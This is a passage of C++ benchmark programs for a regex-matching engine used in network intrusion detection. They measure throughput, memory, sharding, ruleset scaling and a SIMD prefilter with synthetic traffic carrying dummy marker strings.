              "shards; expect ~flat CpB on fewer cores. Sustained queue full\n"
              "spins mean the producer outruns the shard workers.\n");
  bench::write_report(args, report);
  return 0;
}
