// Sharded-pipeline scaling: the same MFA engine shared by 1/2/4/8 worker
// shards, each owning a private flow table of (q, m) contexts and an SPSC
// packet queue (ROADMAP: sharding/async scaling beyond the paper's
// single-threaded evaluation).
//
// Reports wall cycles per payload byte from first submit to finish (queue
// hand-off included) and the speedup over the 1-shard run, plus the
// per-shard load split. Speedup tracks physical cores: on a 1-core host
// every shard count serializes and the table mainly demonstrates that
// sharding does not corrupt results (matches stay constant).
#include "bench_common.h"

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  const unsigned cores = std::thread::hardware_concurrency();
  std::printf("hardware threads: %u\n\n", cores);

  for (const char* set_name : {"C8", "S24"}) {
    const patterns::PatternSet set = patterns::set_by_name(set_name);
    auto mfa = core::build_mfa(set.patterns);
    if (!mfa) {
      std::fprintf(stderr, "%s: MFA construction failed\n", set_name);
      continue;
    }
    const auto exemplars = eval::attack_exemplars(set, 2, 808);
    const trace::Trace t = trace::make_real_life(trace::RealLifeProfile::kCyberDefense,
                                                 args.trace_bytes, 808, exemplars);

    // Sequential (no queues, no threads) reference for the same trace.
    const eval::Throughput seq = eval::measure_throughput(*mfa, t, args.reps);

    std::printf("=== %s: %zu patterns, trace %.2f MB, sequential %.1f CpB ===\n",
                set.name.c_str(), set.patterns.size(),
                static_cast<double>(t.payload_bytes()) / (1024 * 1024),
                seq.cycles_per_byte);
    util::TextTable table({"shards", "CpB", "speedup", "matches", "flows",
                           "max shard pkts", "min shard pkts", "max q depth"});
    double one_shard_cpb = 0.0;
    for (const std::size_t shards : {1u, 2u, 4u, 8u}) {
      const auto tp = eval::measure_pipeline_throughput(*mfa, t, shards, args.reps);
      if (shards == 1) one_shard_cpb = tp.cycles_per_byte;
      std::uint64_t max_pkts = 0, min_pkts = ~0ull, max_depth = 0, flows = 0;
      for (const auto& s : tp.shards) {
        max_pkts = std::max(max_pkts, s.packets);
        min_pkts = std::min(min_pkts, s.packets);
        max_depth = std::max(max_depth, s.max_queue_depth);
        flows += s.flows;
      }
      table.add_row({std::to_string(shards),
                     util::format_double(tp.cycles_per_byte, 1),
                     util::format_double(tp.cycles_per_byte > 0
                                             ? one_shard_cpb / tp.cycles_per_byte
                                             : 0.0,
                                         2),
                     std::to_string(tp.matches), std::to_string(flows),
                     std::to_string(max_pkts), std::to_string(min_pkts),
                     std::to_string(max_depth)});
      if (tp.matches != seq.matches)
        std::fprintf(stderr, "WARNING: %zu-shard matches %llu != sequential %llu\n",
                     shards, static_cast<unsigned long long>(tp.matches),
                     static_cast<unsigned long long>(seq.matches));
    }
    bench::print_table(table, args.csv);
  }
  std::printf("Reading: one immutable engine serves every shard; per-flow state\n"
              "is a context of Mfa::context_bytes() bytes, so flow tables shard\n"
              "without locks. Speedup requires >= as many physical cores as\n"
              "shards; expect ~flat CpB on fewer cores.\n");
  return 0;
}
