// Ruleset scale: Snort-class rule counts (1k/5k/10k) through the full
// pipeline — parse, split, compile, scan — comparing the dense piece-DFA
// MFA against the delta-compressed (D2FA) MFA, with the classic engines
// alongside at the smallest rung for shape context (the full-DFA column
// reproduces the paper's B217p "unconstructable at scale" outcome).
//
// Reported per rung: engine states, memory image, bytes/state, compile
// seconds, and cycles/byte over a synthetic real-life trace seeded with
// exemplars sampled from the ruleset itself. Also: split coverage (what
// fraction of rules the decomposition touched), parallel subset-construction
// speedup, and the delta table's chain statistics.
//
// CI gates (exit non-zero): --assert-delta-ratio (delta table must be R×
// smaller than the dense table), --assert-delta-cpb-pct (delta CpB within
// P% of dense), --assert-parallel-speedup (DFA-phase build speedup; skipped
// below 4 hardware threads where wall-clock parallelism is unmeasurable), and
// --assert-compile-seconds (largest-rung compile budget).
#include "bench_common.h"

#include <thread>

#include "dfa/compact.h"
#include "dfa/d2fa.h"
#include "rules/rules.h"
#include "rules/ruleset_gen.h"

namespace {

std::string fmt(double v, const char* spec = "%.3g") {
  char buf[64];
  std::snprintf(buf, sizeof(buf), spec, v);
  return buf;
}

std::string bytes_per_state(std::size_t bytes, std::uint32_t states) {
  if (states == 0) return "-";
  return fmt(static_cast<double>(bytes) / static_cast<double>(states), "%.1f");
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  std::vector<std::size_t> ladder;
  if (args.rules > 0) ladder = {args.rules};
  else if (args.smoke) ladder = {300, 1000};
  else ladder = {1000, 5000, 10000};

  obs::BenchReport report("ruleset");
  bool gates_ok = true;

  std::printf("Ruleset scale: dense vs delta-compressed MFA (open-dialect fixture)\n\n");

  for (std::size_t rung = 0; rung < ladder.size(); ++rung) {
    const std::size_t nrules = ladder[rung];
    const std::string rung_name = "ruleset-" + std::to_string(nrules);
    std::fprintf(stderr, "[ruleset] generating + parsing %zu rules ...\n", nrules);

    const std::string text =
        rules::generate_ruleset(rules::RulesetGenOptions{nrules, 42});
    const rules::LoadResult loaded = rules::parse_rules(text);
    if (!loaded.ok() || loaded.rules.size() != nrules) {
      std::fprintf(stderr, "fixture must parse cleanly: %zu/%zu rules, %zu errors\n",
                   loaded.rules.size(), nrules, loaded.errors.size());
      for (std::size_t e = 0; e < loaded.errors.size() && e < 5; ++e)
        std::fprintf(stderr, "  line %zu: %s\n", loaded.errors[e].line,
                     loaded.errors[e].message.c_str());
      return 2;
    }

    patterns::PatternSet set;
    set.name = rung_name;
    set.description = "generated open-dialect fixture";
    for (const auto& rule : loaded.rules) set.sources.push_back(rule.pattern);
    set.patterns = rules::to_pattern_inputs(loaded.rules);

    // Classic engines are only tractable at the smallest rung; the full-DFA
    // cell going to "-" as rule count grows is the paper's scale story.
    eval::SuiteOptions sopt = bench::suite_options(args);
    sopt.build_dfa = rung == 0;
    sopt.build_hfa = rung == 0;
    sopt.build_xfa = rung == 0;
    // The full-DFA attempt exists to show the "-" outcome; in smoke mode
    // don't burn minutes exploring a quarter-million doomed subsets.
    if (args.smoke)
      sopt.dfa_max_states = std::min<std::uint32_t>(sopt.dfa_max_states, 10000);
    std::fprintf(stderr, "[ruleset] building engines for %zu rules ...\n", nrules);
    const eval::Suite suite = eval::build_suite(set, sopt);
    if (!suite.mfa) {
      std::fprintf(stderr, "MFA build failed at %zu rules\n", nrules);
      return 2;
    }

    // Parallel subset construction: same automaton (byte-identical by
    // construction, pinned by tests), timed against the suite's 1-thread
    // DFA phase.
    core::BuildOptions par;
    par.dfa.max_states = args.dfa_cap;
    par.dfa.threads = 0;  // hardware concurrency
    core::BuildStats par_stats;
    const auto par_mfa = core::build_mfa(set.patterns, par, &par_stats);
    if (!par_mfa) {
      std::fprintf(stderr, "parallel MFA build failed at %zu rules\n", nrules);
      return 2;
    }

    // Delta mode: compress the piece DFA, drop the dense table.
    core::BuildOptions del = par;
    del.delta = true;
    core::BuildStats del_stats;
    const auto delta_mfa = core::build_mfa(set.patterns, del, &del_stats);
    if (!delta_mfa || !delta_mfa->delta_mode()) {
      std::fprintf(stderr, "delta MFA build failed at %zu rules\n", nrules);
      return 2;
    }
    const dfa::D2fa& d2 = *delta_mfa->delta_table();
    const dfa::CompactDfa compact(suite.mfa->character_dfa());

    const std::size_t dense_table_bytes =
        suite.mfa->character_dfa().memory_image_bytes(false);
    const std::size_t delta_table_bytes = d2.memory_image_bytes();
    const std::size_t compact_table_bytes = compact.memory_image_bytes();
    const std::uint32_t piece_states = suite.mfa->character_dfa().state_count();

    // Throughput over a real-life trace carrying exemplars sampled from the
    // ruleset. NFA/HFA/XFA scanning is intractable at these pattern counts;
    // CpB is measured where a deployment would actually scan.
    std::fprintf(stderr, "[ruleset] measuring throughput ...\n");
    const auto exemplars = eval::attack_exemplars(set, 1, 7000 + nrules);
    const trace::Trace tr = trace::make_real_life(trace::RealLifeProfile::kDarpa,
                                                  args.trace_bytes, 201, exemplars);
    const eval::Throughput dense_tp =
        eval::measure_throughput(*suite.mfa, tr, args.reps);
    const eval::Throughput delta_tp =
        eval::measure_throughput(*delta_mfa, tr, args.reps);

    const double dfa_seq_s = suite.mfa_stats.dfa.seconds;
    const double dfa_par_s = par_stats.dfa.seconds;
    const double speedup = dfa_par_s > 0 ? dfa_seq_s / dfa_par_s : 0.0;
    const double table_ratio =
        delta_table_bytes > 0
            ? static_cast<double>(dense_table_bytes) / static_cast<double>(delta_table_bytes)
            : 0.0;
    const auto& split = suite.mfa_stats.split;
    const double coverage =
        split.patterns_in > 0
            ? 100.0 * split.patterns_decomposed / split.patterns_in
            : 0.0;

    util::TextTable table({"Engine", "States", "Bytes", "B/state", "Compile s", "CpB"});
    table.add_row({"dfa",
                   bench::cell_or_dash(suite.dfa_build.ok, std::to_string(suite.dfa_build.states)),
                   bench::cell_or_dash(suite.dfa_build.ok, std::to_string(suite.dfa_build.image_bytes)),
                   bench::cell_or_dash(suite.dfa_build.ok,
                                       bytes_per_state(suite.dfa_build.image_bytes, suite.dfa_build.states)),
                   bench::cell_or_dash(rung == 0, fmt(suite.dfa_build.seconds)),
                   "-"});
    table.add_row({"nfa", std::to_string(suite.nfa_build.states),
                   std::to_string(suite.nfa_build.image_bytes),
                   bytes_per_state(suite.nfa_build.image_bytes, suite.nfa_build.states),
                   fmt(suite.nfa_build.seconds), "-"});
    table.add_row({"hfa",
                   bench::cell_or_dash(suite.hfa_build.ok, std::to_string(suite.hfa_build.states)),
                   bench::cell_or_dash(suite.hfa_build.ok, std::to_string(suite.hfa_build.image_bytes)),
                   bench::cell_or_dash(suite.hfa_build.ok,
                                       bytes_per_state(suite.hfa_build.image_bytes, suite.hfa_build.states)),
                   bench::cell_or_dash(rung == 0, fmt(suite.hfa_build.seconds)), "-"});
    table.add_row({"xfa",
                   bench::cell_or_dash(suite.xfa_build.ok, std::to_string(suite.xfa_build.states)),
                   bench::cell_or_dash(suite.xfa_build.ok, std::to_string(suite.xfa_build.image_bytes)),
                   bench::cell_or_dash(suite.xfa_build.ok,
                                       bytes_per_state(suite.xfa_build.image_bytes, suite.xfa_build.states)),
                   bench::cell_or_dash(rung == 0, fmt(suite.xfa_build.seconds)), "-"});
    table.add_row({"mfa", std::to_string(piece_states),
                   std::to_string(dense_table_bytes),
                   bytes_per_state(dense_table_bytes, piece_states),
                   fmt(suite.mfa_stats.seconds), fmt(dense_tp.cycles_per_byte)});
    table.add_row({"compact_dfa", std::to_string(compact.state_count()),
                   std::to_string(compact_table_bytes),
                   bytes_per_state(compact_table_bytes, compact.state_count()), "-", "-"});
    table.add_row({"mfa-delta", std::to_string(d2.state_count()),
                   std::to_string(delta_table_bytes),
                   bytes_per_state(delta_table_bytes, d2.state_count()),
                   fmt(del_stats.seconds), fmt(delta_tp.cycles_per_byte)});

    std::printf("%zu rules (%u of %u decomposed, split coverage %.1f%%):\n",
                nrules, split.patterns_decomposed, split.patterns_in, coverage);
    bench::print_table(table, args.csv);
    std::printf("  delta: table %.2fx smaller than dense (%zu -> %zu bytes), "
                "%u roots, max chain %u, avg chain %.2f, %llu exceptions\n",
                table_ratio, dense_table_bytes, delta_table_bytes,
                del_stats.d2fa.roots, del_stats.d2fa.max_chain,
                del_stats.d2fa.avg_chain,
                static_cast<unsigned long long>(del_stats.d2fa.exception_entries));
    std::printf("  compile: dfa phase %.3gs (1 thread) vs %.3gs (parallel) = %.2fx;"
                " matches dense=%llu delta=%llu\n\n",
                dfa_seq_s, dfa_par_s, speedup,
                static_cast<unsigned long long>(dense_tp.matches),
                static_cast<unsigned long long>(delta_tp.matches));

    // mfa.bench.v1 rows. The "memory" trace rows carry bytes/state in the
    // cycles_per_byte field so bench_compare's CpB tolerance gates table
    // growth too (sizes are deterministic, so the gate is tight in practice).
    report.add(rung_name, "darpa", "mfa", dense_tp.cycles_per_byte, dense_tp.matches);
    report.add(rung_name, "darpa", "mfa-delta", delta_tp.cycles_per_byte,
               delta_tp.matches);
    report.add(rung_name, "memory", "mfa",
               static_cast<double>(dense_table_bytes) / piece_states, piece_states);
    report.add(rung_name, "memory", "mfa-delta",
               static_cast<double>(delta_table_bytes) / piece_states, piece_states);
    report.add(rung_name, "memory", "compact_dfa",
               static_cast<double>(compact_table_bytes) / piece_states, piece_states);

    if (dense_tp.matches != delta_tp.matches) {
      std::fprintf(stderr, "FAIL: delta matches (%llu) != dense matches (%llu)\n",
                   static_cast<unsigned long long>(delta_tp.matches),
                   static_cast<unsigned long long>(dense_tp.matches));
      gates_ok = false;
    }

    const bool largest = rung + 1 == ladder.size();
    if (largest && args.assert_delta_ratio > 0 && table_ratio < args.assert_delta_ratio) {
      std::fprintf(stderr, "FAIL: delta table only %.2fx smaller than dense "
                   "(gate: %.2fx)\n", table_ratio, args.assert_delta_ratio);
      gates_ok = false;
    }
    if (args.assert_delta_cpb_pct >= 0 &&
        delta_tp.cycles_per_byte >
            dense_tp.cycles_per_byte * (1.0 + args.assert_delta_cpb_pct / 100.0)) {
      std::fprintf(stderr, "FAIL: delta CpB %.3f exceeds dense %.3f by more than %.0f%%\n",
                   delta_tp.cycles_per_byte, dense_tp.cycles_per_byte,
                   args.assert_delta_cpb_pct);
      gates_ok = false;
    }
    if (largest && args.assert_parallel_speedup > 0) {
      // A wall-clock speedup needs cores to run on; under a 1-2 CPU cgroup
      // the parallel build is pure coordination overhead and the gate would
      // only measure the container, not the code. Artifact equality stays
      // pinned unconditionally (Serialize.ArtifactIsByteIdentical*).
      const unsigned cpus = std::thread::hardware_concurrency();
      if (cpus < 4) {
        std::fprintf(stderr,
                     "SKIP: parallel-speedup gate needs >=4 CPUs, have %u "
                     "(measured %.2fx, informational)\n", cpus, speedup);
      } else if (speedup < args.assert_parallel_speedup) {
        std::fprintf(stderr, "FAIL: parallel dfa-phase speedup %.2fx below gate %.2fx\n",
                     speedup, args.assert_parallel_speedup);
        gates_ok = false;
      }
    }
    if (largest && args.assert_compile_seconds > 0 &&
        suite.mfa_stats.seconds > args.assert_compile_seconds) {
      std::fprintf(stderr, "FAIL: compile took %.3gs, budget %.3gs\n",
                   suite.mfa_stats.seconds, args.assert_compile_seconds);
      gates_ok = false;
    }
  }

  bench::write_report(args, report);
  return gates_ok ? 0 : 1;
}
