// Table V: RegEx set properties — pattern count, NFA states, DFA states,
// MFA (character-DFA) states for each rule set. The paper's values are
// printed alongside for shape comparison; our sets are structural analogs,
// so ratios (DFA >> MFA for C sets, DFA unconstructable for B217p) are the
// reproduction target, not the absolute counts.
#include "bench_common.h"

namespace {

struct PaperRow {
  const char* name;
  const char* regexes;
  const char* nfa;
  const char* dfa;
  const char* mfa;
};

constexpr PaperRow kPaper[] = {
    {"B217p", "224", "2553", "-", "5332"},   {"C7p", "11", "295", "244366", "104"},
    {"C8", "8", "99", "3786", "341"},        {"C10", "10", "123", "19508", "81"},
    {"S24", "24", "702", "10257", "766"},    {"S31p", "40", "1436", "39977", "1584"},
    {"S34", "34", "1003", "12486", "1499"},
};

}  // namespace

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  std::printf("Table V: RegEx set properties (measured vs paper)\n\n");
  util::TextTable table({"Set", "RegExes", "NFA Qs", "DFA Qs", "MFA Qs", "paper:NFA",
                         "paper:DFA", "paper:MFA"});

  const auto sets = patterns::builtin_sets();
  for (std::size_t i = 0; i < sets.size(); ++i) {
    const auto& set = sets[i];
    std::fprintf(stderr, "[table5] building %s ...\n", set.name.c_str());
    const eval::Suite suite = eval::build_suite(set, bench::suite_options(args));
    table.add_row({set.name, std::to_string(set.patterns.size()),
                   std::to_string(suite.nfa_build.states),
                   bench::cell_or_dash(suite.dfa_build.ok,
                                       std::to_string(suite.dfa_build.states)),
                   bench::cell_or_dash(suite.mfa_build.ok,
                                       std::to_string(suite.mfa_build.states)),
                   kPaper[i].nfa, kPaper[i].dfa, kPaper[i].mfa});
  }
  bench::print_table(table, args.csv);
  std::printf("Shape checks: C-set DFA/MFA ratios should span orders of magnitude;\n"
              "B217p DFA should be '-' (state cap %u exceeded).\n", args.dfa_cap);
  return 0;
}
