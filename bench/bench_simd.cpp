// SIMD prefilter + vectorized-kernel sweep (DESIGN.md §13).
//
// Measures the literal-prefilter gate's two regimes end to end through the
// FlowInspector, A/B against the same engine with the gate switched off
// (set_prefilter), so the delta is exactly the gate:
//
//   clean   every packet is literal-free: the gate skips the full MFA scan
//           and replays only the lookback window — the headline win;
//   dirty   every packet carries a literal: the gate always passes, so its
//           cost (one Teddy pass per chunk) is pure overhead — the tax
//           bounded by --assert-overhead-pct in CI;
//   mix     90/10 clean/dirty, the "clean-traffic mix" a sensor sees when
//           most flows are benign.
//
// Rows land in mfa.bench.v1 (engine "mfa+gate" vs "mfa", trace clean/dirty/
// mix) and merge into BENCH_baseline.json for the perf trajectory. The
// kernel level (avx2/scalar) is printed — run under MFA_SIMD=scalar to
// sweep the fallback path on the same machine.
#include "bench_common.h"
#include "simd/dispatch.h"
#include "util/rng.h"

namespace {

using namespace mfa;

/// Literal-rich pattern set: every piece has a required factor, so the
/// DFA-level gate proof arms. Literals are lowercase/digits; clean filler is
/// uppercase, so clean packets are provably literal-free.
const std::vector<std::string> kPatterns = {
    ".*ab12.*cd34", ".*wxyz", ".*ha7ck", ".*evil99",
    ".*sqlinj",     ".*xsspay", ".*beacon7", ".*dropper"};

const std::vector<std::string> kPlants = {"wxyz", "ha7ck", "evil99", "sqlinj",
                                          "xsspay", "beacon7", "dropper"};

/// `dirty_pct` of packets carry one literal; the rest are uppercase filler.
trace::Trace make_traffic(const char* name, std::size_t bytes, int dirty_pct,
                          std::uint64_t seed) {
  trace::Trace t(name);
  util::Rng rng(seed);
  constexpr std::size_t kPacket = 1200;
  constexpr std::size_t kFlows = 64;
  std::vector<std::uint64_t> offsets(kFlows, 0);
  std::string payload(kPacket, '\0');
  std::size_t produced = 0;
  while (produced < bytes) {
    for (auto& c : payload)
      c = static_cast<char>('A' + rng.below(26));
    if (static_cast<int>(rng.below(100)) < dirty_pct) {
      const std::string& lit = kPlants[rng.below(kPlants.size())];
      payload.replace(rng.below(kPacket - lit.size()), lit.size(), lit);
    }
    const std::uint32_t f = static_cast<std::uint32_t>(rng.below(kFlows));
    const flow::FlowKey key{f + 1, 0xc0a80001u, 40000, 443, 6};
    t.add_packet(key, offsets[f],
                 reinterpret_cast<const std::uint8_t*>(payload.data()),
                 static_cast<std::uint32_t>(payload.size()));
    offsets[f] += payload.size();
    produced += payload.size();
  }
  return t;
}

struct GateRun {
  double cpb = 0.0;
  std::uint64_t matches = 0;
  std::uint64_t skips = 0;
  std::uint64_t passes = 0;
};

/// measure_throughput with the per-inspector gate switch applied: fresh
/// inspector per rep, first rep warms when reps > 1.
GateRun measure(const core::Mfa& m, const trace::Trace& t, int reps, bool gate) {
  GateRun r;
  std::uint64_t cycles = 0;
  int timed = 0;
  for (int rep = 0; rep < reps; ++rep) {
    flow::FlowInspector<core::Mfa> insp(m);
    insp.set_prefilter(gate);
    CountingSink sink;
    const std::uint64_t start = util::rdtsc_now();
    t.for_each_packet([&](const flow::Packet& p) { insp.packet(p, sink); });
    const std::uint64_t elapsed = util::rdtsc_now() - start;
    if (!(reps > 1 && rep == 0)) {
      cycles += elapsed;
      ++timed;
    }
    r.matches = sink.count;
    r.skips = insp.prefilter_skip_count();
    r.passes = insp.prefilter_pass_count();
  }
  if (t.payload_bytes() > 0 && timed > 0)
    r.cpb = static_cast<double>(cycles) /
            (static_cast<double>(timed) * static_cast<double>(t.payload_bytes()));
  return r;
}

}  // namespace

int main(int argc, char** argv) {
  const bench::Args args = bench::Args::parse(argc, argv);

  std::vector<nfa::PatternInput> inputs;
  std::uint32_t id = 1;
  for (const std::string& src : kPatterns)
    inputs.push_back(nfa::PatternInput{regex::parse_or_die(src), id++});
  auto m = core::build_mfa(inputs);
  if (!m) {
    std::fprintf(stderr, "bench_simd: MFA construction failed\n");
    return 2;
  }
  const simd::Prefilter& pf = m->prefilter();
  std::printf("kernel=%s prefilter=%s literals=%zu window=%zu\n",
              simd::level_name(), pf.status(), pf.literal_count(), pf.window());
  if (!pf.gate_enabled()) {
    // Without the gate the A/B below measures nothing; fail loudly unless
    // the user disabled it on purpose via MFA_PREFILTER.
    std::fprintf(stderr, "bench_simd: gate not armed (%s)\n", pf.status());
    return simd::prefilter_env_disabled() ? 0 : 2;
  }

  obs::BenchReport report("simd");
  util::TextTable table({"trace", "gate", "CpB", "speedup", "matches",
                         "skips", "passes"});
  struct TraceSpec {
    const char* name;
    int dirty_pct;
  };
  const TraceSpec specs[] = {{"clean", 0}, {"dirty", 100}, {"mix", 10}};

  int failures = 0;
  for (const TraceSpec& spec : specs) {
    const trace::Trace t =
        make_traffic(spec.name, args.trace_bytes, spec.dirty_pct, 4242);
    const GateRun off = measure(*m, t, args.reps, /*gate=*/false);
    const GateRun on = measure(*m, t, args.reps, /*gate=*/true);
    if (on.matches != off.matches) {
      std::fprintf(stderr,
                   "ASSERT FAIL: %s gated matches %llu != ungated %llu\n",
                   spec.name, static_cast<unsigned long long>(on.matches),
                   static_cast<unsigned long long>(off.matches));
      ++failures;
    }
    const double speedup = on.cpb > 0 ? off.cpb / on.cpb : 0.0;
    table.add_row({spec.name, "off", util::format_double(off.cpb, 2), "1.00",
                   std::to_string(off.matches), "0", "0"});
    table.add_row({spec.name, "on", util::format_double(on.cpb, 2),
                   util::format_double(speedup, 2), std::to_string(on.matches),
                   std::to_string(on.skips), std::to_string(on.passes)});
    report.add("SIMD", spec.name, "mfa", off.cpb, off.matches, /*shards=*/0);
    report.add("SIMD", spec.name, "mfa+gate", on.cpb, on.matches, /*shards=*/0);

    if (spec.dirty_pct == 100 && args.assert_overhead_pct >= 0) {
      const double limit = off.cpb * (1.0 + args.assert_overhead_pct / 100.0);
      if (on.cpb > limit) {
        std::fprintf(stderr,
                     "ASSERT FAIL: dirty-traffic gated CpB %.2f exceeds "
                     "ungated %.2f by more than %.0f%%\n",
                     on.cpb, off.cpb, args.assert_overhead_pct);
        ++failures;
      }
    }
  }
  bench::print_table(table, args.csv);
  std::printf(
      "Reading: on clean traffic the gate turns the per-byte DFA walk into\n"
      "one Teddy pass plus a window-sized tail replay per chunk — CpB drops\n"
      "by the skip ratio. On dirty traffic every chunk passes the gate, so\n"
      "the 'on' row prices the prefilter tax (bounded in CI via\n"
      "--assert-overhead-pct). Matches must be identical in every pair —\n"
      "the gate is a schedule, not a semantic change.\n");
  bench::write_report(args, report);
  return failures == 0 ? 0 : 1;
}
