// Fig. 5: synthetic-trace throughput in cycles per byte as the Becchi
// generator's match probability p_M rises (rand, 0.35, 0.55, 0.75, 0.95).
// Paper shapes: every engine degrades as p_M grows; DFA stays fastest, MFA
// tracks DFA (losing a bit more at high maliciousness from filter work),
// XFA mid-pack, NFA and HFA at the top of the graph.
#include "bench_common.h"

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  // Synthetic generation needs the original-pattern DFA, so use the sets
  // where the DFA baseline is constructable; report the per-p_M mean across
  // sets like the paper's per-algorithm lines.
  const std::vector<std::string> set_names = {"C8", "C10", "S24"};
  const double pms[] = {0.0, 0.35, 0.55, 0.75, 0.95};

  std::printf("Fig. 5: synthetic throughput in cycles per byte vs p_M\n"
              "(mean over sets %s; p_M=0.00 is the random baseline)\n\n",
              "C8+C10+S24");

  struct Cell {
    double sum = 0;
    int n = 0;
  };
  Cell grid[5][5];  // [pm][engine]: DFA NFA HFA XFA MFA

  for (const auto& name : set_names) {
    std::fprintf(stderr, "[fig5] building %s ...\n", name.c_str());
    const auto set = patterns::set_by_name(name);
    const eval::Suite suite = eval::build_suite(set, bench::suite_options(args));
    if (!suite.dfa || !suite.mfa || !suite.hfa || !suite.xfa) {
      std::fprintf(stderr, "  (skipped: an engine failed to build)\n");
      continue;
    }
    for (int pi = 0; pi < 5; ++pi) {
      const trace::Trace t =
          trace::make_synthetic(*suite.dfa, pms[pi], args.trace_bytes, 555 + pi);
      const double cpb[5] = {
          eval::measure_throughput(*suite.dfa, t, args.reps).cycles_per_byte,
          eval::measure_throughput(suite.nfa, t, args.reps).cycles_per_byte,
          eval::measure_throughput(*suite.hfa, t, args.reps).cycles_per_byte,
          eval::measure_throughput(*suite.xfa, t, args.reps).cycles_per_byte,
          eval::measure_throughput(*suite.mfa, t, args.reps).cycles_per_byte,
      };
      for (int e = 0; e < 5; ++e) {
        grid[pi][e].sum += cpb[e];
        grid[pi][e].n += 1;
      }
    }
  }

  util::TextTable table({"p_M", "DFA", "NFA", "HFA", "XFA", "MFA"});
  for (int pi = 0; pi < 5; ++pi) {
    std::vector<std::string> row;
    row.push_back(pi == 0 ? "rand" : util::format_double(pms[pi], 2));
    for (int e = 0; e < 5; ++e)
      row.push_back(grid[pi][e].n > 0
                        ? util::format_double(grid[pi][e].sum / grid[pi][e].n, 1)
                        : "-");
    table.add_row(std::move(row));
  }
  bench::print_table(table, args.csv);
  std::printf("Shape checks: every column should rise with p_M; DFA < MFA < XFA;\n"
              "NFA/HFA at the top (paper Fig. 5).\n");
  return 0;
}
