// Fig. 5: synthetic-trace throughput in cycles per byte as the Becchi
// generator's match probability p_M rises (rand, 0.35, 0.55, 0.75, 0.95).
// Paper shapes: every engine degrades as p_M grows; DFA stays fastest, MFA
// tracks DFA (losing a bit more at high maliciousness from filter work),
// XFA mid-pack, NFA and HFA at the top of the graph.
//
// --json FILE emits every (set, p_M, engine) cell as an mfa.bench.v1
// record — the same schema bench_fig4/bench_pipeline use.
#include <map>

#include "bench_common.h"

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  // Synthetic generation needs the original-pattern DFA, so use the sets
  // where the DFA baseline is constructable; report the per-p_M mean across
  // sets like the paper's per-algorithm lines.
  const std::vector<std::string> set_names = {"C8", "C10", "S24"};
  const double pms[] = {0.0, 0.35, 0.55, 0.75, 0.95};

  std::printf("Fig. 5: synthetic throughput in cycles per byte vs p_M\n"
              "(mean over sets %s; p_M=0.00 is the random baseline)\n\n",
              "C8+C10+S24");

  struct Cell {
    double sum = 0;
    int n = 0;
  };
  std::map<std::string, Cell> grid[5];  // [pm] -> engine -> mean accumulator
  obs::BenchReport report("fig5");

  for (const auto& name : set_names) {
    std::fprintf(stderr, "[fig5] building %s ...\n", name.c_str());
    const auto set = patterns::set_by_name(name);
    const eval::Suite suite = eval::build_suite(set, bench::suite_options(args));
    if (!suite.dfa || !suite.mfa || !suite.hfa || !suite.xfa) {
      std::fprintf(stderr, "  (skipped: an engine failed to build)\n");
      continue;
    }
    for (int pi = 0; pi < 5; ++pi) {
      const trace::Trace t =
          trace::make_synthetic(*suite.dfa, pms[pi], args.trace_bytes, 555 + pi);
      const std::string trace_name =
          pi == 0 ? "rand" : "pm" + util::format_double(pms[pi], 2);
      bench::for_each_engine(suite, [&](const char* engine, const auto& e) {
        const auto tp = eval::measure_throughput(e, t, args.reps);
        grid[pi][engine].sum += tp.cycles_per_byte;
        grid[pi][engine].n += 1;
        report.add(name, trace_name, engine, tp.cycles_per_byte, tp.matches);
      });
    }
  }

  util::TextTable table({"p_M", "DFA", "NFA", "HFA", "XFA", "MFA"});
  for (int pi = 0; pi < 5; ++pi) {
    std::vector<std::string> row;
    row.push_back(pi == 0 ? "rand" : util::format_double(pms[pi], 2));
    for (const auto& [key, header] : bench::engine_columns()) {
      const auto it = grid[pi].find(key);
      row.push_back(it != grid[pi].end() && it->second.n > 0
                        ? util::format_double(it->second.sum / it->second.n, 1)
                        : "-");
    }
    table.add_row(std::move(row));
  }
  bench::print_table(table, args.csv);
  std::printf("Shape checks: every column should rise with p_M; DFA < MFA < XFA;\n"
              "NFA/HFA at the top (paper Fig. 5).\n");
  bench::write_report(args, report);
  return 0;
}
