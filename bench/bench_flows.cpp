// Flow-state footprint and latency at high concurrent-flow counts: the flat
// FlowInspector (unordered_map node + intrusive LRU per flow) against the
// tiered hot/cold inspector (2-choice hot table with inline MFA contexts,
// slab-arena cold tier, timing-wheel eviction — DESIGN.md Sec. 11).
//
// Real memory is measured, not estimated: a global operator new/delete pair
// tracks live heap bytes via malloc_usable_size, so allocator slack and
// node headers — the overhead the tiering exists to eliminate — are
// included. Reported per scenario: bytes/flow for both inspectors, the
// reduction factor, p99 per-packet scan latency, and eviction-accounting
// conservation under a bounded table (inserts == resident + evicted).
//
// --flows N pins one flow count (default sweep: 100k, and 1M when not
// --smoke); --assert-bytes-per-flow N exits non-zero if the tiered
// inspector's in-order bytes/flow exceeds the ceiling (the CI regression
// gate); --json FILE writes the mfa.bench.v1 schema, where rows carry
// cycles-per-byte and the flow count rides in the trace label.
#include <malloc.h>

#include <atomic>
#include <cstdlib>
#include <new>

#include "bench_common.h"
#include "flow/tiered.h"
#include "obs/metrics.h"

namespace {

std::atomic<std::size_t> g_live_bytes{0};

}  // namespace

void* operator new(std::size_t size) {
  void* p = std::malloc(size);
  if (p == nullptr) throw std::bad_alloc{};
  g_live_bytes.fetch_add(malloc_usable_size(p), std::memory_order_relaxed);
  return p;
}

void operator delete(void* p) noexcept {
  if (p == nullptr) return;
  g_live_bytes.fetch_sub(malloc_usable_size(p), std::memory_order_relaxed);
  std::free(p);
}

void operator delete(void* p, std::size_t) noexcept { operator delete(p); }

namespace {

using namespace mfa;

/// A synthetic workload of `nflows` concurrent flows, `pkts_per_flow`
/// in-order packets each, round-robin interleaved (every packet lands on a
/// different flow than its predecessor — the hostile case for flow-table
/// locality). All packets share one payload buffer: the measured heap delta
/// is flow-table state, not traffic.
struct Workload {
  std::vector<flow::Packet> packets;
  std::string payload;
  std::size_t nflows = 0;

  Workload(std::size_t nflows_in, std::size_t pkts_per_flow, std::size_t payload_len)
